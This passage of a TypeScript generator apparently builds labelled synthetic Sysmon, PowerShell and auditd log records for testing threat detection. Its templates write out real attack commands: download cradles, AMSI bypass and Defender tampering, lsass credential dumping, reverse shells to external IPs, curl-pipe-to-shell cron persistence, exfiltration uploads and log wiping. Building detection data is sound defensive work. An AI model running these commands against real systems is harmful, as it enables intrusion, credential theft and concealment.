      name: 'sysmon-uac-bypass', source, category: 'privilege-escalation', threatType: 'UAC bypass (fodhelper / eventvwr hijack)', technique: 'T1548.002', tactic: 'privilege-escalation', severity: 'HIGH', count: 30,
      make: (g) => {
        const key = g.pick(['ms-settings', 'mscfile']);
        const set = sysmon(g, 13, 'Registry value set', [['EventType', 'SetValue'], ['Image', PS], ['TargetObject', `HKU\\S-1-5-21-${g.int(1e8, 4e9)}_Classes\\${key}\\shell\\open\\command\\${g.pick(['(Default)', 'DelegateExecute'])}`], ['Details', `C:\\Users\\Public\\${g.alnum(6)}.exe`]], g.chance(0.5));
        g.tick(100, 3000);
        const proc = processCreate(g, key === 'ms-settings' ? 'C:\\Windows\\System32\\fodhelper.exe' : 'C:\\Windows\\System32\\eventvwr.exe', key === 'ms-settings' ? 'fodhelper.exe' : 'eventvwr.exe', PS, g.user());
        return `${set}\n${proc}`;
      },
    },
    {
      name: 'sysmon-psexec', source, category: 'lateral-movement', threatType: 'PsExec-style remote service execution', technique: 'T1021.002', tactic: 'lateral-movement', severity: 'HIGH', count: 30,
      make: (g) => g.chance(0.5)
        ? processCreate(g, 'C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\System32\\services.exe', 'SYSTEM')
        : sysmon(g, 3, 'Network connection detected', [['Image', g.pick(['C:\\Tools\\PsExec64.exe', 'C:\\Users\\Public\\psexec.exe', PS])], ['User', `CORP\\${g.user()}`], ['Protocol', 'tcp'], ['Initiated', 'true'], ['SourceIp', g.ipInternal()], ['SourcePort', g.port()], ['DestinationIp', g.ipInternal()], ['DestinationPort', 445]], g.chance(0.5)),
    },
    {
      name: 'sysmon-c2-port', source, category: 'command-and-control', threatType: 'Beacon to a non-standard port', technique: 'T1571', tactic: 'command-and-control', severity: 'HIGH', count: 35,
      make: (g) => sysmon(g, 3, 'Network connection detected', [
        ['Image', g.pick([PS, 'C:\\Windows\\System32\\rundll32.exe', `C:\\Users\\${g.user()}\\AppData\\Roaming\\${g.alnum(6)}.exe`, 'C:\\Windows\\System32\\regsvr32.exe'])],
        ['User', `CORP\\${g.user()}`], ['Protocol', 'tcp'], ['Initiated', 'true'], ['SourceIp', g.ipInternal()], ['SourcePort', g.port()], ['DestinationIp', g.ipExternal()], ['DestinationPort', g.pick([4444, 8443, 1337, 6666, 9001, 50050, 31337])],
      ], g.chance(0.5)),
    },
    {
      name: 'sysmon-dga-dns', source, category: 'command-and-control', threatType: 'DNS queries to algorithmically generated domains', technique: 'T1568.002', tactic: 'command-and-control', severity: 'MEDIUM', count: 25,
      make: (g) => Array.from({ length: g.int(3, 8) }, () => {
        g.tick(50, 2000);
        return sysmon(g, 22, 'Dns query', [['QueryName', `${g.alnum(g.int(10, 20), 'abcdefghijklmnopqrstuvwxyz')}.${g.pick(['com', 'net', 'info', 'biz', 'top', 'xyz'])}`], ['QueryStatus', g.pick(['9003', '0', '9003'])], ['QueryResults', '-'], ['Image', g.pick([PS, 'C:\\Windows\\System32\\rundll32.exe', 'C:\\ProgramData\\updater.exe'])]], true);
      }).join('\n'),
    },
    {
      name: 'sysmon-ingress-tool', source, category: 'command-and-control', threatType: 'Tool download with a living-off-the-land binary', technique: 'T1105', tactic: 'command-and-control', severity: 'HIGH', count: 25,
      make: (g) => processCreate(g, g.pick(['C:\\Windows\\System32\\certutil.exe', 'C:\\Windows\\System32\\bitsadmin.exe', 'C:\\Windows\\System32\\curl.exe']), g.pick([
        `certutil.exe -urlcache -split -f http://${g.ipExternal()}/${g.alnum(5)}.exe C:\\Users\\Public\\${g.alnum(5)}.exe`,
        `bitsadmin /transfer ${g.alnum(4)} /download /priority high http://${g.ipExternal()}/a.exe C:\\ProgramData\\a.exe`,
        `curl.exe -s -o C:\\Windows\\Temp\\${g.alnum(5)}.dll http://${g.ipExternal()}:${g.pick([80, 8080])}/${g.alnum(6)}`,
      ]), 'C:\\Windows\\System32\\cmd.exe', g.user()),
    },
    {
      name: 'sysmon-defender-tamper', source, category: 'defense-evasion', threatType: 'Security tool disabled', technique: 'T1562.001', tactic: 'defense-evasion', severity: 'HIGH', count: 30,
      make: (g) => processCreate(g, g.pick([PS, 'C:\\Windows\\System32\\sc.exe', 'C:\\Windows\\System32\\reg.exe']), g.pick([
        'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true',
        `powershell.exe Add-MpPreference -ExclusionPath C:\\Users\\Public`,
        'sc.exe stop WinDefend', 'sc config WinDefend start= disabled',
        'reg.exe add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f',
      ]), 'C:\\Windows\\System32\\cmd.exe', g.user()),
    },
    {
      name: 'sysmon-wevtutil-clear', source, category: 'defense-evasion', threatType: 'Event logs cleared with wevtutil', technique: 'T1070.001', tactic: 'defense-evasion', severity: 'HIGH', count: 20,
      make: (g) => processCreate(g, 'C:\\Windows\\System32\\wevtutil.exe', `wevtutil.exe ${g.pick(['cl', 'clear-log'])} ${g.pick(['Security', 'System', 'Application', '"Windows PowerShell"', 'Microsoft-Windows-Sysmon/Operational'])}`, g.pick(['C:\\Windows\\System32\\cmd.exe', PS]), g.user()),
    },
  ];
}

// ---------------------------------------------------------------- PowerShell script block logging (4104)

function scriptBlock(g: Gen, script: string): string {
  const host = `${g.host()}.corp.local`;
  const user = g.user();
  const id = g.guid();
  const path = g.chance(0.5) ? '' : `C:\\Users\\${user}\\AppData\\Local\\Temp\\${g.alnum(8)}.ps1`;
  if (g.chance(0.4)) {
    return JSON.stringify(shuffleKeys(g, { EventID: 4104, Channel: 'Microsoft-Windows-PowerShell/Operational', Computer: host, UserID: `CORP\\${user}`, TimeCreated: new Date(g.t).toISOString(), ScriptBlockText: script, ScriptBlockId: id, Path: path }));
  }
  return [
    windowsTime(g.t), 'LogName=Microsoft-Windows-PowerShell/Operational', 'EventCode=4104', `ComputerName=${host}`, `User=CORP\\${user}`, 'Type=Verbose',
    `Message=Creating Scriptblock text (1 of 1):`, script, '', `ScriptBlock ID: ${id}`, `Path: ${path}`,
  ].join('\n');
}

export function powershellScenarios(): Scenario[] {
  const source = 'powershell' as const;
  return [
    {
      name: 'ps-benign-admin', source, category: 'benign', threatType: 'Routine administrative PowerShell', technique: null, tactic: null, severity: 'LOW', count: 60,
      make: (g) => scriptBlock(g, g.pick([
        'Get-Service | Where-Object {$_.Status -eq "Stopped"} | Select-Object Name, DisplayName',
        `Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-${g.int(7, 90)}) | Remove-Item`,
        'Import-Module ActiveDirectory; Get-ADUser -Identity $env:USERNAME -Properties LastLogonDate',
        `Restart-Service -Name ${g.pick(['Spooler', 'W3SVC', 'MSSQLSERVER', 'wuauserv'])} -Force`,
        'Get-WmiObject Win32_LogicalDisk | Select-Object DeviceID, FreeSpace, Size',
        `Test-NetConnection -ComputerName ${g.pick(['sql01', 'fs02', 'intranet'])} -Port ${g.pick([443, 1433, 445])}`,
        'Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 5',
        `Copy-Item -Path \\\\fs02\\deploy\\app-${g.int(1, 9)}.${g.int(0, 20)}.zip -Destination C:\\Deploy\\`,
        'prompt',
        '$PSVersionTable.PSVersion',
      ])),
    },
    {
      name: 'ps-download-cradle', source, category: 'malicious-execution', threatType: 'PowerShell download cradle', technique: 'T1059.001', tactic: 'execution', severity: 'HIGH', count: 45,
      make: (g) => {
        const url = `http${g.chance(0.5) ? 's' : ''}://${g.chance(0.5) ? g.ipExternal() : g.pick(['cdn-update.net', 'raw.githubusercontent.com/x/y/main', 'pastebin.com/raw'])}/${g.alnum(6)}${g.pick(['.ps1', '', '.txt'])}`;
        return scriptBlock(g, g.pick([
          `IEX (New-Object Net.WebClient).DownloadString('${url}')`,
          `iex(iwr -UseBasicParsing '${url}')`,
          `$c=New-Object System.Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX $c.DownloadString("${url}")`,
          `& ([scriptblock]::Create((Invoke-RestMethod '${url}')))`,
          `[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('${url}')).EntryPoint.Invoke($null,$null)`,
          `$s=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${g.b64(60)}'));iex $s`,
        ]));
      },
    },
    {
      name: 'ps-mimikatz', source, category: 'credential-dumping', threatType: 'Invoke-Mimikatz / credential dumping in PowerShell', technique: 'T1003.001', tactic: 'credential-access', severity: 'CRITICAL', count: 30,
      make: (g) => scriptBlock(g, g.pick([
        `Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"'`,
        `Invoke-Mimikatz -DumpCreds -ComputerName ${g.host()}`,
        `$p = Get-Process lsass; [PSObject].Assembly.GetType('System.Management.Automation.WindowsErrorReporting').GetNestedType('NativeMethods','NonPublic').GetMethod('MiniDumpWriteDump',[Reflection.BindingFlags]'NonPublic, Static').Invoke($null,@($p.Handle,$p.Id,$fs.SafeFileHandle,[UInt32]2,[IntPtr]::Zero,[IntPtr]::Zero,[IntPtr]::Zero))`,
        `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\\Windows\\Temp\\${g.alnum(4)}.dmp full`,
        `Out-Minidump -Process (Get-Process -Name lsass) -DumpFilePath C:\\Users\\Public`,
      ])),
    },
    {
      name: 'ps-ad-discovery', source, category: 'reconnaissance', threatType: 'Active Directory discovery', technique: 'T1087.002', tactic: 'discovery', severity: 'MEDIUM', count: 35,
      make: (g) => scriptBlock(g, g.pick([
        'Get-ADUser -Filter * -Properties * | Select-Object SamAccountName, MemberOf, LastLogonDate | Export-Csv C:\\Users\\Public\\u.csv',
        'Get-NetUser | Select-Object samaccountname, description, pwdlastset',
        '([adsisearcher]"(&(objectCategory=person)(objectClass=user))").FindAll() | ForEach-Object { $_.Properties.samaccountname }',
        'Get-DomainUser -SPN | Select-Object samaccountname, serviceprincipalname',
        `Get-ADGroupMember -Identity "${g.pick(['Domain Admins', 'Enterprise Admins', 'Administrators'])}" -Recursive`,
        'Invoke-BloodHound -CollectionMethod All -ZipFileName loot.zip',
      ])),
    },
    {
      name: 'ps-scheduled-task', source, category: 'persistence', threatType: 'Scheduled task registered from PowerShell', technique: 'T1053.005', tactic: 'persistence', severity: 'HIGH', count: 30,
      make: (g) => scriptBlock(g, `$a = New-ScheduledTaskAction -Execute '${g.pick(['powershell.exe', 'C:\\Users\\Public\\' + g.alnum(5) + '.exe', 'rundll32.exe'])}' -Argument '${g.pick(['-w hidden -nop -enc ' + g.b64(40), 'C:\\ProgramData\\' + g.alnum(5) + '.dll,Run', '-File C:\\Users\\Public\\u.ps1'])}'\n$t = New-ScheduledTaskTrigger ${g.pick(['-AtLogOn', '-AtStartup', '-Once -At (Get-Date) -RepetitionInterval (New-TimeSpan -Minutes 30)'])}\nRegister-ScheduledTask -TaskName '${g.pick(['MicrosoftEdgeUpdateCore', 'WindowsUpdateCheck', g.alnum(8)])}' -Action $a -Trigger $t -User 'SYSTEM' -Force`),
    },
    {
      name: 'ps-remoting-lateral', source, category: 'lateral-movement', threatType: 'Remote execution over WinRM', technique: 'T1021.006', tactic: 'lateral-movement', severity: 'HIGH', count: 30,
      make: (g) => scriptBlock(g, g.pick([
        `Invoke-Command -ComputerName ${g.pick(['SRV-FILE-02', 'SRV-SQL-01', 'DC01'])} -ScriptBlock { ${g.pick(['whoami /all', 'Get-Process', 'net localgroup administrators', 'IEX (New-Object Net.WebClient).DownloadString("http://' + g.ipInternal() + '/a")'])} } -Credential $cred`,
        `Enter-PSSession -ComputerName ${g.ipInternal()} -Credential (Get-Credential CORP\\${g.user()})`,
        `$s = New-PSSession -ComputerName ${g.pick(['SRV-APP-01', 'EXCH01'])}; Copy-Item C:\\Users\\Public\\a.exe -Destination C:\\Windows\\Temp\\ -ToSession $s`,
      ])),
    },
    {
      name: 'ps-amsi-bypass', source, category: 'defense-evasion', threatType: 'AMSI bypass / script logging tampering', technique: 'T1562.001', tactic: 'defense-evasion', severity: 'HIGH', count: 30,
      make: (g) => scriptBlock(g, g.pick([
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
        "$a=[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils');$b=$a.GetField('am'+'siContext','NonPublic,Static')",
        'Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true',
        "Remove-Item -Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging' -Recurse",
        `Add-MpPreference -ExclusionPath '${g.pick(['C:\\ProgramData', 'C:\\Users\\Public', 'C:\\Windows\\Temp'])}'`,
      ])),
    },
    {
      name: 'ps-exfil-upload', source, category: 'exfiltration', threatType: 'Archive uploaded to an external web service', technique: 'T1567.002', tactic: 'exfiltration', severity: 'CRITICAL', count: 30,
      make: (g) => scriptBlock(g, `Compress-Archive -Path ${g.pick(['C:\\Users\\' + g.user() + '\\Documents', '\\\\fs02\\finance', 'C:\\Shares\\HR'])} -DestinationPath C:\\Users\\Public\\${g.alnum(5)}.zip\n${g.pick([
        `Invoke-RestMethod -Uri 'https://content.dropboxapi.com/2/files/upload' -Method Post -InFile C:\\Users\\Public\\d.zip -Headers @{Authorization='Bearer ${g.alnum(40)}'}`,
        `rclone.exe copy C:\\Users\\Public\\d.zip mega:backup --no-check-certificate`,
        `Invoke-WebRequest -Uri 'https://transfer.sh/d.zip' -Method Put -InFile C:\\Users\\Public\\d.zip`,
        `(New-Object Net.WebClient).UploadFile('https://api.anonfiles.example/upload', 'C:\\Users\\Public\\d.zip')`,
      ])}`),
    },
  ];
}

// ---------------------------------------------------------------- Linux auditd

function audit(g: Gen, records: { type: string; body: string }[]): string {
  const serial = g.int(1000, 999999);
  const stamp = `audit(${epochTime(g.t)}:${serial})`;
  return records.map((r) => `type=${r.type} msg=${stamp}: ${r.body}`).join('\n');
}

function execve(g: Gen, argv: string[], opts: { uid?: number; auid?: number; exe?: string; comm?: string; key?: string; tty?: string } = {}): string {
  const uid = opts.uid ?? 0;
  const auid = opts.auid ?? g.pick([1000, 1001, 1002, 4294967295]);
  const exe = opts.exe ?? `/usr/bin/${argv[0]!.split('/').pop()}`;
  const comm = opts.comm ?? exe.split('/').pop()!;
  const args = argv.map((a, i) => (/\s|"/.test(a) ? `a${i}=${Buffer.from(a).toString('hex').toUpperCase()}` : `a${i}="${a}"`)).join(' ');
  return audit(g, [
    { type: 'SYSCALL', body: `arch=c000003e syscall=59 success=yes exit=0 a0=${g.hex(12)} a1=${g.hex(12)} a2=${g.hex(12)} a3=0 items=2 ppid=${g.pid()} pid=${g.pid()} auid=${auid} uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=${opts.tty ?? g.pick(['pts0', 'pts1', '(none)'])} ses=${g.int(1, 900)} comm="${comm}" exe="${exe}" key="${opts.key ?? 'exec'}"` },
    { type: 'EXECVE', body: `argc=${argv.length} ${args}` },
    { type: 'CWD', body: `cwd="${g.pick(['/root', '/tmp', '/var/www/html', '/home/' + g.user()])}"` },
    { type: 'PROCTITLE', body: `proctitle=${Buffer.from(argv.join('\0')).toString('hex').toUpperCase().slice(0, 256)}` },
  ]);
}

function pathAccess(g: Gen, file: string, opts: { uid: number; comm: string; exe: string; key: string; syscall?: number }): string {
  return audit(g, [
    { type: 'SYSCALL', body: `arch=c000003e syscall=${opts.syscall ?? 257} success=yes exit=3 a0=ffffff9c a1=${g.hex(12)} a2=${g.pick(['0', '241', '441'])} a3=1b6 items=1 ppid=${g.pid()} pid=${g.pid()} auid=${g.pick([1000, 1001, 33])} uid=${opts.uid} gid=${opts.uid} euid=${opts.uid} tty=pts${g.int(0, 3)} ses=${g.int(1, 900)} comm="${opts.comm}" exe="${opts.exe}" key="${opts.key}"` },
    { type: 'PATH', body: `item=0 name="${file}" inode=${g.int(10000, 9999999)} dev=fd:01 mode=0100${g.pick(['640', '600', '644'])} ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0` },
  ]);
}

export function auditdScenarios(): Scenario[] {
  const source = 'linux-auditd' as const;
  return [
    {
      name: 'auditd-benign-exec', source, category: 'benign', threatType: 'Routine command execution', technique: null, tactic: null, severity: 'LOW', count: 60,
      make: (g) => execve(g, g.pick([['ls', '-la', '/var/log'], ['systemctl', 'status', 'nginx'], ['df', '-h'], ['apt-get', 'update'], ['git', 'pull'], ['crontab', '-l'], ['journalctl', '-u', 'sshd', '--since', 'today'], ['tar', 'czf', '/backup/etc.tgz', '/etc'], ['python3', 'manage.py', 'migrate'], ['docker', 'ps']]), { uid: g.pick([0, 1000, 1001]) }),
    },
    {
      name: 'auditd-benign-login', source, category: 'benign', threatType: 'Normal user login', technique: null, tactic: null, severity: 'LOW', count: 40,
      make: (g) => {
        const u = g.pick(['deploy', 'alice', 'bob', 'ansible']);
        return audit(g, [
          { type: 'USER_AUTH', body: `pid=${g.pid()} uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=pam_unix acct="${u}" exe="/usr/sbin/sshd" hostname=${g.ipInternal()} addr=${g.ipInternal()} terminal=ssh res=success'` },
          { type: 'USER_LOGIN', body: `pid=${g.pid()} uid=0 auid=${g.int(1000, 1005)} ses=${g.int(1, 900)} msg='op=login id=${g.int(1000, 1005)} exe="/usr/sbin/sshd" hostname=? addr=${g.ipInternal()} terminal=/dev/pts/${g.int(0, 4)} res=success'` },
        ]);
      },
    },
    {
      name: 'auditd-shadow-read', source, category: 'credential-dumping', threatType: 'Read of /etc/shadow by an unexpected process', technique: 'T1003.008', tactic: 'credential-access', severity: 'HIGH', count: 35,
      make: (g) => {
        const [comm, exe] = g.pick([['cat', '/usr/bin/cat'], ['python3', '/usr/bin/python3.11'], ['unshadow', '/usr/sbin/unshadow'], ['cp', '/usr/bin/cp'], [g.alnum(5), '/tmp/.' + g.alnum(5)]] as const);
        return pathAccess(g, g.pick(['/etc/shadow', '/etc/gshadow', '/etc/shadow-']), { uid: 0, comm, exe, key: g.pick(['shadow_access', 'identity', 'cred']) });
      },
    },
    {
      name: 'auditd-ssh-keys', source, category: 'persistence', threatType: 'SSH authorized_keys modified', technique: 'T1098.004', tactic: 'persistence', severity: 'HIGH', count: 30,
      make: (g) => pathAccess(g, g.pick(['/root/.ssh/authorized_keys', `/home/${g.pick(['deploy', 'ubuntu', 'alice'])}/.ssh/authorized_keys`, '/root/.ssh/authorized_keys2']), { uid: g.pick([0, 1000]), comm: g.pick(['bash', 'tee', 'echo', 'python3']), exe: g.pick(['/usr/bin/bash', '/usr/bin/tee', '/usr/bin/python3.11']), key: 'ssh_keys', syscall: 257 }),
    },
    {
      name: 'auditd-cron-persistence', source, category: 'persistence', threatType: 'Cron job added', technique: 'T1053.003', tactic: 'persistence', severity: 'HIGH', count: 30,
      make: (g) => g.chance(0.5)
        ? pathAccess(g, g.pick(['/etc/crontab', '/etc/cron.d/' + g.alnum(6), '/var/spool/cron/crontabs/root', '/etc/cron.hourly/' + g.alnum(5)]), { uid: 0, comm: g.pick(['bash', 'sh', 'tee']), exe: '/usr/bin/bash', key: 'cron' })
        : execve(g, ['bash', '-c', `(crontab -l; echo "*/${g.int(1, 15)} * * * * curl -fsSL http://${g.ipExternal()}/${g.alnum(4)}.sh | sh") | crontab -`], { uid: g.pick([0, 33, 1000]), key: 'cron' }),
    },
    {
      name: 'auditd-systemd-service', source, category: 'persistence', threatType: 'Malicious systemd service created', technique: 'T1543.002', tactic: 'persistence', severity: 'HIGH', count: 25,
      make: (g) => pathAccess(g, `/etc/systemd/system/${g.pick(['dbus-update', 'kworkerd', 'network-helper', g.alnum(7)])}.service`, { uid: 0, comm: g.pick(['bash', 'cp', 'tee', 'vi']), exe: '/usr/bin/bash', key: 'systemd' }),
    },
    {
      name: 'auditd-setuid-privesc', source, category: 'privilege-escalation', threatType: 'Setuid bit set on a shell', technique: 'T1548.001', tactic: 'privilege-escalation', severity: 'CRITICAL', count: 30,
      make: (g) => execve(g, g.pick([['chmod', 'u+s', '/bin/bash'], ['chmod', '4755', '/tmp/.sh'], ['chmod', '+s', '/usr/bin/find'], ['cp', '/bin/bash', '/tmp/.b'], ['install', '-m', '4755', '/bin/sh', '/var/tmp/.x']]), { uid: 0, auid: g.pick([1000, 33, 1001]), key: 'perm_mod' }),
    },
    {
      name: 'auditd-pkexec-exploit', source, category: 'privilege-escalation', threatType: 'Local privilege escalation exploit (pkexec / sudo)', technique: 'T1068', tactic: 'privilege-escalation', severity: 'CRITICAL', count: 25,
      make: (g) => g.chance(0.5)
        ? audit(g, [
            { type: 'SYSCALL', body: `arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=${g.pid()} pid=${g.pid()} auid=${g.pick([1000, 33])} uid=${g.pick([1000, 33])} gid=${g.pick([1000, 33])} euid=0 suid=0 fsuid=0 egid=0 tty=pts${g.int(0, 3)} ses=${g.int(1, 900)} comm="pkexec" exe="/usr/bin/pkexec" key="priv_esc"` },
            { type: 'EXECVE', body: 'argc=0' },
            { type: 'ANOM_ABEND', body: `auid=${g.pick([1000, 33])} uid=0 gid=0 ses=${g.int(1, 900)} pid=${g.pid()} comm="pkexec" exe="/usr/bin/pkexec" sig=11 res=1` },
          ])
        : execve(g, ['sudoedit', '-s', '\\', g.pick(['AAAAAAAAAAAAAAAAAAAA', `$(python3 -c 'print("A"*${g.int(60, 70)})')`])], { uid: 0, auid: 1000, exe: '/usr/bin/sudo', comm: 'sudoedit', key: 'priv_esc' }),
    },
    {
      name: 'auditd-history-clear', source, category: 'defense-evasion', threatType: 'Shell history or logs wiped', technique: 'T1070.003', tactic: 'defense-evasion', severity: 'MEDIUM', count: 25,
      make: (g) => execve(g, g.pick([['bash', '-c', 'history -c && unset HISTFILE'], ['rm', '-f', `/root/.bash_history`], ['ln', '-sf', '/dev/null', `/home/${g.pick(['alice', 'deploy'])}/.bash_history`], ['shred', '-u', '/root/.bash_history']]), { uid: 0, key: 'anti_forensics' }),
    },
    {
      name: 'auditd-log-truncate', source, category: 'defense-evasion', threatType: 'System logs cleared', technique: 'T1070.002', tactic: 'defense-evasion', severity: 'HIGH', count: 25,
      make: (g) => execve(g, g.pick([['truncate', '-s', '0', '/var/log/auth.log'], ['rm', '-rf', '/var/log/secure'], ['journalctl', '--vacuum-time=1s'], ['bash', '-c', 'cat /dev/null > /var/log/syslog'], ['shred', '-zu', '/var/log/wtmp']]), { uid: 0, key: 'log_tamper' }),
    },
    {
      name: 'auditd-audit-disable', source, category: 'defense-evasion', threatType: 'Linux audit system disabled', technique: 'T1562.012', tactic: 'defense-evasion', severity: 'HIGH', count: 20,
      make: (g) => execve(g, g.pick([['auditctl', '-D'], ['auditctl', '-e', '0'], ['systemctl', 'stop', 'auditd'], ['service', 'auditd', 'stop']]), { uid: 0, exe: '/usr/sbin/auditctl', key: 'audit_config' }),
    },
    {
      name: 'auditd-reverse-shell', source, category: 'malicious-execution', threatType: 'Reverse shell / pipe-to-shell execution', technique: 'T1059.004', tactic: 'execution', severity: 'CRITICAL', count: 35,
      make: (g) => execve(g, g.pick([
        ['bash', '-c', `bash -i >& /dev/tcp/${g.ipExternal()}/${g.pick([4444, 443, 9001, 1234])} 0>&1`],
        ['sh', '-c', `curl -fsSL http://${g.ipExternal()}/${g.alnum(5)}.sh | sh`],
        ['nc', '-e', '/bin/sh', g.ipExternal(), String(g.pick([4444, 5555, 8080]))],
        ['python3', '-c', `import socket,os,pty;s=socket.socket();s.connect(("${g.ipExternal()}",${g.pick([4444, 9001])}));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/sh")`],
        ['wget', '-q', `http://${g.ipExternal()}/xmrig`, '-O', '/tmp/.x'],
      ]), { uid: g.pick([0, 33, 1000]), key: 'exec' }),
    },
    {
      name: 'auditd-webserver-shell', source, category: 'command-injection', threatType: 'Web server process executing shell commands', technique: 'T1059.004', tactic: 'execution', severity: 'CRITICAL', count: 30,
      make: (g) => execve(g, g.pick([['sh', '-c', 'id'], ['sh', '-c', 'whoami'], ['sh', '-c', 'uname -a'], ['sh', '-c', `ping -c 1 ${g.ipExternal()}`], ['sh', '-c', 'cat /etc/passwd'], ['sh', '-c', `wget http://${g.ipExternal()}/a -O /tmp/a`]]), { uid: 33, auid: 4294967295, exe: '/usr/bin/dash', comm: 'sh', key: 'www_exec', tty: '(none)' }),
    },
  ];
}
